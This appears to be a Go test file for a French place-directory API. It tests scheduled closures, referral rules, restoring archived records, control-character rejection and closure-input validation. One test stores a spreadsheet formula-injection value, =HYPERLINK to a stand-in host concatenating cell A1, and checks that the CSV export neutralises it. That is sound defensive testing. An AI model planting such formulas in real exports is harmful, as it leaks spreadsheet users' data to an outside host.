package api_test

import (
	"context"
	"strings"
	"sync"
	"testing"
	"time"

	"carnet/api/apitest"
	"carnet/models"
	"carnet/models/dbtest"
)

// TestClosuresByTheClock reproduces item 10 of issue 12: a future closure
// hid the place at once and a closure that ended still hid it; referrals
// were accepted to and from closed structures; archived records could not
// be restored by their managers.
func TestClosuresByTheClock(t *testing.T) {
	now := time.Date(2026, 12, 20, 10, 0, 0, 0, time.UTC) // 11:00 in Paris
	var mu sync.Mutex
	clock := func() time.Time { mu.Lock(); defer mu.Unlock(); return now }
	advance := func(d time.Duration) { mu.Lock(); now = now.Add(d); mu.Unlock() }
	w := newReferralWorld(t, apitest.WithClock(clock), apitest.WithTokenTTL(24*365*time.Hour))
	e := w.e
	b := "/api/v1/actors/" + w.b
	status := func() string { return str(e.Do(apitest.Request{Method: "GET", Path: b}).Map()["status"]) }
	found := func() bool {
		return strings.Contains(e.Do(apitest.Request{Method: "GET", Path: "/api/v1/search/services?q=demarches"}).Body.String(), w.s)
	}
	listed := func(st string) bool {
		return strings.Contains(e.Do(apitest.Request{Method: "GET", Path: "/api/v1/actors?status=" + st}).Body.String(), w.b)
	}
	// Announced for the 24th to the 2nd: visible until it starts.
	r := e.Do(apitest.Request{Method: "PATCH", Path: b, Token: e.Admin, Body: obj{"status": "temporarily_closed", "closed_from": "2026-12-24", "closed_until": "2027-01-02", "closure_reason": "Fermeture annuelle"}})
	if r.Code != 200 {
		t.Fatal(r.Code, r.Body)
	}
	if s := status(); s != "active" || !found() || !listed("active") || listed("temporarily_closed") {
		t.Errorf("announced closure: status %s, found %v", s, found())
	}
	got := e.Do(apitest.Request{Method: "GET", Path: b}).Map()
	if got["closed_from"] != "2026-12-24" || got["closure_reason"] != "Fermeture annuelle" {
		t.Errorf("the announcement is not shown: %v", got)
	}
	if r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/referrals", Token: w.memberA, Body: referralBody(w.a, w.s)}); r.Code != 201 {
		t.Errorf("referral before the closure: %d %s", r.Code, r.Body)
	}
	// A client that writes back what it read keeps the announcement.
	if r := e.Do(apitest.Request{Method: "PATCH", Path: b, Token: e.Admin, Body: obj{"status": "active", "summary": "Relu"}}); r.Code != 200 || r.Map()["closed_from"] != "2026-12-24" {
		t.Errorf("write-back of an announced closure: %d %s", r.Code, r.Body)
	}
	// The 24th at midnight in Paris: closed, without a write.
	advance(3*24*time.Hour + 13*time.Hour + time.Minute) // 2026-12-24 00:01 Paris
	if s := status(); s != "temporarily_closed" || found() || listed("active") || !listed("temporarily_closed") {
		t.Errorf("closure in effect: status %s, found %v", s, found())
	}
	if !strings.Contains(e.Do(apitest.Request{Method: "GET", Path: "/api/v1/search/services?q=demarches&status=temporarily_closed"}).Body.String(), w.s) {
		t.Error("a closed place is not found on request")
	}
	r = e.Do(apitest.Request{Method: "POST", Path: "/api/v1/referrals", Token: w.memberA, Body: referralBody(w.a, w.s)})
	if r.Code != 422 || !strings.Contains(r.Body.String(), "temporarily closed until 2027-01-02") || !hasAll(fields(t, r), "to_service_id") {
		t.Errorf("referral to a closed place: %d %s", r.Code, r.Body)
	}
	cs := str(createService(t, e, validService(w.c, "Atelier"))["id"])
	_, memberB := w.e.Account("autre.b@example.fr", map[string]models.Role{w.b: models.RoleMember}, models.Territory{})
	if r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/referrals", Token: memberB, Body: referralBody(w.b, cs)}); r.Code != 422 || !hasAll(fields(t, r), "from_actor_id") {
		t.Errorf("referral from a closed place: %d %s", r.Code, r.Body)
	}
	// The 3rd: reopened by itself.
	advance(10 * 24 * time.Hour)
	if s := status(); s != "active" || !found() || !listed("active") {
		t.Errorf("after the closure: status %s, found %v", s, found())
	}
}

// TestManagersRestoreArchivedRecords: archived records come back with a
// restore, by those who may edit them, in the history and the feed.
func TestManagersRestoreArchivedRecords(t *testing.T) {
	e := apitest.New(t)
	a := str(createActor(t, e, validActor("Espace numérique"))["id"])
	published := str(createService(t, e, validService(a, "Accès libre"))["id"])
	draft := str(createService(t, e, merge(validService(a, "Atelier en préparation"), obj{"status": "draft"}))["id"])
	_, manager := e.Account("gerant@example.fr", map[string]models.Role{a: models.RoleManager}, models.Territory{})
	_, stranger := e.Account("autre@example.fr", nil, models.Territory{})
	path := "/api/v1/actors/" + a
	if r := e.Do(apitest.Request{Method: "DELETE", Path: path, Token: manager}); r.Code != 204 {
		t.Fatal(r.Code)
	}
	if r := e.Do(apitest.Request{Method: "POST", Path: path + "/restore", Token: stranger}); r.Code != 403 {
		t.Errorf("a stranger restores: %d", r.Code)
	}
	r := e.Do(apitest.Request{Method: "POST", Path: path + "/restore", Token: manager})
	if r.Code != 200 || r.Map()["archived_at"] != nil {
		t.Fatalf("restore: %d %s", r.Code, r.Body)
	}
	if r := e.Do(apitest.Request{Method: "POST", Path: path + "/restore", Token: manager}); r.Code != 409 {
		t.Errorf("restoring a live actor: %d", r.Code)
	}
	for id, want := range map[string]string{published: "published", draft: "draft"} {
		if got := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/services/" + id, Token: manager}).Map(); got["status"] != want {
			t.Errorf("service restored as %v, want %s", got["status"], want)
		}
	}
	if !strings.Contains(e.Do(apitest.Request{Method: "GET", Path: path + "/history", Token: manager}).Body.String(), `"action":"restore"`) {
		t.Error("the restore is not in the history")
	}
	// A service alone, and not while its actor is archived.
	if r := e.Do(apitest.Request{Method: "DELETE", Path: "/api/v1/services/" + published, Token: manager}); r.Code != 204 {
		t.Fatal(r.Code)
	}
	if r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/services/" + published + "/restore", Token: manager}); r.Code != 200 || r.Map()["status"] != "published" {
		t.Errorf("service restore: %d %s", r.Code, r.Body)
	}
	e.Do(apitest.Request{Method: "DELETE", Path: path, Token: manager})
	if r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/services/" + draft + "/restore", Token: manager}); r.Code != 409 {
		t.Errorf("service of an archived actor restored: %d", r.Code)
	}
}

// TestTextRefusesControlCharacters reproduces item 11 of issue 12: NUL and
// other control characters, and U+202E, were accepted in names and written
// raw into the CSV export. The model refuses them in every text field, and
// the CSV export neither passes on such characters (whatever was stored
// before) nor lets a cell run as a spreadsheet formula.
func TestTextRefusesControlCharacters(t *testing.T) {
	e := apitest.New(t)
	for name, v := range map[string]string{"NUL": "Espace\x00numérique", "bell": "Espace\anumérique", "escape": "Espace\x1b[31m", "DEL": "Espace\x7f", "C1": "Espace\u0085numérique",
		"right-to-left override": "Espace \u202Eeuqirémun", "isolate": "Espace \u2066x\u2069", "line break in a name": "Espace\nnumérique"} {
		r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/actors", Token: e.Admin, Body: validActor(v)})
		if r.Code != 422 || !hasAll(fields(t, r), "name") {
			t.Errorf("%s in a name: %d %s", name, r.Code, r.Body)
		}
	}
	for field, body := range map[string]obj{
		"address.street": merge(validActor("x"), obj{"address": obj{"street": "1 rue\x00", "postal_code": "13001", "commune": "Marseille"}}),
		"description":    merge(validActor("x"), obj{"description": "ligne\u202E"}),
		"source_id":      merge(validActor("x"), obj{"source": "s", "source_id": "a\x00"}),
	} {
		if r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/actors", Token: e.Admin, Body: body}); r.Code != 422 || !hasAll(fields(t, r), field) {
			t.Errorf("%s: %d %s", field, r.Code, r.Body)
		}
	}
	// Line breaks stay allowed where text spans lines.
	a := createActor(t, e, merge(validActor("Médiathèque"), obj{"description": "Accès libre.\nAteliers le mardi.\n\t- débutants"}))
	if r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/services", Token: e.Admin, Body: merge(validService(str(a["id"]), "Atelier"), obj{"description": "x\x00"})}); r.Code != 422 {
		t.Errorf("NUL in a service: %d", r.Code)
	}
	_, member := e.Account("m@example.fr", map[string]models.Role{str(a["id"]): models.RoleMember}, models.Territory{})
	if r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/actors/" + str(a["id"]) + "/join-requests", Token: member, Body: obj{"message": "bonjour\u202E"}}); r.Code != 422 && r.Code != 409 {
		t.Errorf("override in a message: %d", r.Code)
	}

	// The export of what was stored before the checks existed.
	createActor(t, e, validActor("=HYPERLINK(\"http://x.example/?\"&A1,\"Cliquez\")"))
	old := "Vieux\x00nom\u202E"
	if dbtest.Engine() == "postgres" {
		old = "Vieux\u0007nom\u202E" // PostgreSQL's text cannot hold NUL at all
	}
	if _, err := openRaw(t, e).ExecContext(context.Background(), "UPDATE actors SET name = ? WHERE name = 'Médiathèque'", old); err != nil {
		t.Fatal(err)
	}
	csv := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/standard-csv"}).Body.String()
	if strings.ContainsAny(csv, "\x00\a\u202E") {
		t.Error("control or direction characters in the CSV export")
	}
	if !strings.Contains(csv, "Vieuxnom") || !strings.Contains(csv, `"'=HYPERLINK(`) {
		t.Errorf("CSV export: %s", csv)
	}
	if strings.Contains(csv, ",=HYPERLINK") || strings.Contains(csv, `,"=HYPERLINK`) {
		t.Error("a formula cell in the CSV export")
	}
}

// TestClosureInputIsNeverDroppedSilently reproduces a black-box probe: with
// the place active, closed_until and closure_reason sent without closed_from,
// an impossible date in the past (2026-02-30) and a closure_reason over 500
// characters were answered 200/201 and dropped, since reopening cleared the
// closure before validation. Every path that writes an actor now refuses them
// with 422 naming the field; the documented clearings (a reopening, a
// cancellation) still answer 200.
func TestClosureInputIsNeverDroppedSilently(t *testing.T) {
	now := time.Date(2026, 12, 4, 10, 0, 0, 0, time.UTC)
	e := apitest.New(t, apitest.WithClock(func() time.Time { return now }))
	long := strings.Repeat("x", 900)
	bad := []struct {
		name   string
		body   obj
		fields []string
	}{
		{"until and reason without from", obj{"closed_until": "2027-01-10", "closure_reason": "Travaux"}, []string{"closed_until", "closure_reason"}},
		{"until alone", obj{"closed_until": "2027-01-10"}, []string{"closed_until"}},
		{"reason alone", obj{"closure_reason": "Travaux"}, []string{"closure_reason"}},
		{"impossible until", obj{"closed_until": "2099-99-99"}, []string{"closed_until"}},
		{"impossible past from", obj{"closed_from": "2026-02-30"}, []string{"closed_from"}},
		{"reason too long", obj{"closure_reason": long}, []string{"closure_reason"}},
		{"reason too long with a past closure", obj{"closed_from": "2026-11-01", "closure_reason": long}, []string{"closure_reason"}},
		{"impossible until while reopening", obj{"status": "active", "closed_from": "2026-11-01", "closed_until": "2026-11-31"}, []string{"closed_until"}},
	}
	target := str(createActor(t, e, validActor("Cible"))["id"])
	path := "/api/v1/actors/" + target
	for _, tc := range bad {
		for _, w := range []struct {
			method, path string
			body         obj
		}{
			{"POST", "/api/v1/actors", merge(validActor("Nouveau"), tc.body)},
			{"PUT", path, merge(validActor("Cible"), tc.body)},
			{"PATCH", path, tc.body},
		} {
			t.Run(tc.name+" "+w.method, func(t *testing.T) {
				r := e.Do(apitest.Request{Method: w.method, Path: w.path, Token: e.Admin, Body: w.body})
				if r.Code != 422 || !hasAll(fields(t, r), tc.fields...) {
					t.Errorf("%d %s, want 422 naming %v", r.Code, r.Body, tc.fields)
				}
			})
		}
		t.Run(tc.name+" sync", func(t *testing.T) {
			// Created by the batch, then updated by the next one.
			for _, id := range []string{"lieu-nouveau", "lieu-connu"} {
				if id == "lieu-connu" {
					syncActors(t, e, "", partnerActor(id, "Connu"))
				}
				res := syncActors(t, e, "", merge(partnerActor(id, "Connu"), tc.body))
				got := res.Results[0]
				var named []string
				for _, fe := range got.Errors {
					named = append(named, fe.Field)
				}
				if got.Result != "rejected" || !hasAll(named, tc.fields...) {
					t.Errorf("%s: %s %v, want rejected naming %v", id, got.Result, got.Errors, tc.fields)
				}
			}
		})
	}
	if v := e.Do(apitest.Request{Method: "GET", Path: path}).Map()["version"]; v != float64(1) {
		t.Errorf("a refused write changed the actor: version %v", v)
	}
	// What the README documents still clears the closure: cancelling an
	// announced one (closed_from null), and reopening a place.
	patch := func(body obj) obj {
		t.Helper()
		r := e.Do(apitest.Request{Method: "PATCH", Path: path, Token: e.Admin, Body: body})
		if r.Code != 200 {
			t.Fatalf("%v: %d %s", body, r.Code, r.Body)
		}
		return r.Map()
	}
	patch(obj{"status": "temporarily_closed", "closed_from": "2027-01-04", "closed_until": "2027-01-10", "closure_reason": "Travaux"})
	if got := patch(obj{"status": "active", "closed_from": nil}); got["closed_from"] != nil || got["closed_until"] != nil || got["closure_reason"] != "" {
		t.Errorf("cancelled closure kept: %v", got)
	}
	patch(obj{"status": "temporarily_closed", "closed_from": "2026-12-01", "closed_until": "2027-01-10", "closure_reason": "Travaux"})
	if got := patch(obj{"status": "active"}); got["closed_from"] != nil || got["closed_until"] != nil || got["closure_reason"] != "" {
		t.Errorf("reopened place kept its closure: %v", got)
	}
}

// TestSyncKeepsAnAnnouncedClosure: a partner's record announcing a closure
// for later (status active, closed_from in the future: what a read of the
// place answers until the closure begins) keeps it, whether the batch
// creates the place or updates it, as a direct write does. An update
// normalised the record before the closure was scheduled, which read the
// announcement as a reopening and cleared it without a word.
func TestSyncKeepsAnAnnouncedClosure(t *testing.T) {
	e := apitest.New(t)
	closure := obj{"status": "active", "closed_from": "2099-01-04", "closed_until": "2099-01-10", "closure_reason": "Travaux"}
	for _, id := range []string{"annonce-nouvelle", "annonce-connue"} {
		t.Run(id, func(t *testing.T) {
			if id == "annonce-connue" {
				syncActors(t, e, "", partnerActor(id, "Lieu"))
			}
			got := syncActors(t, e, "", merge(partnerActor(id, "Lieu"), closure)).Results[0]
			if got.Result == "rejected" {
				t.Fatalf("rejected: %v", got.Errors)
			}
			a := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/actors/" + got.ID}).Map()
			if a["closed_from"] != "2099-01-04" || a["closed_until"] != "2099-01-10" || a["closure_reason"] != "Travaux" || a["status"] != "active" {
				t.Errorf("%s: the announced closure is not kept: %v %v %v %v", got.Result, a["status"], a["closed_from"], a["closed_until"], a["closure_reason"])
			}
			// The same batch again changes nothing.
			if again := syncActors(t, e, "", merge(partnerActor(id, "Lieu"), closure)).Results[0]; again.Result != "unchanged" {
				t.Errorf("the same batch again: %s %v", again.Result, again.Errors)
			}
		})
	}
}
